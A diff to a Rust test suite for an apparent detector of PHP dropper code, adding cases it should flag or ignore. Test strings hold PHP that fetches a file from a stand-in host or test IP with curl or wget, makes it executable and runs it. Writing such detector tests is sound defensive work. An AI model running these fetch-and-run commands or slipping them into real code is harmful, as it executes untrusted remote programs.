@@ -227,6 +227,8 @@ fn droppers_are_found() {
     assert_eq!(found(download), [Why::DownloadsProgram]);
     let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
     assert_eq!(found(chmod), [Why::DownloadsProgram]);
+    let pieces = "<?php $u = 'http://203.0.113.9/k'; exec('wget ' . 'http://203.0.113.9/k' . ' -O /tmp/k; chmod 755 /tmp/k; /tmp/k');";
+    assert_eq!(found(pieces), [Why::DownloadsProgram]);
 }
 
 #[test]
@@ -237,6 +239,9 @@ fn installers_and_commands_that_run_nothing_are_quiet() {
     assert!(found(health).is_empty());
     // A download described in text, with no shell call in the file.
     assert!(found("<?php $help = 'Run: wget https://example.org/x.tar.gz && sh install.sh';").is_empty());
+    // A comment describing an install, in a file that runs an unrelated command.
+    let comment = "<?php\n// wget https://example.org/tool -O tool && chmod +x tool && ./tool\nexec('uptime', $out);";
+    assert!(found(comment).is_empty());
 }
 
 #[test]
